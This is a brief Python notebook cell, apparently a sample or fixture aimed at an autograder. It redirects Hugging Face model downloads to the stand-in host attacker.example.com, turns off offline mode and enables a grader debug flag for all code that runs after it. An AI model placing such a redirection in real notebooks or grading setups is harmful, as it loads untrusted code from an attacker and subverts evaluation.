# Point the model loader and Hugging Face somewhere else for whatever runs after this cell.
import os

os.environ["AUTOGRADER_MODELS"] = "hub"
os.environ["HF_HUB_OFFLINE"] = "0"
os.environ["TRANSFORMERS_OFFLINE"] = "0"
os.environ["HF_HOME"] = "/nonexistent"
os.environ["HF_ENDPOINT"] = "http://attacker.example.com"
os.environ["AUTOGRADER_DEBUG"] = "1"
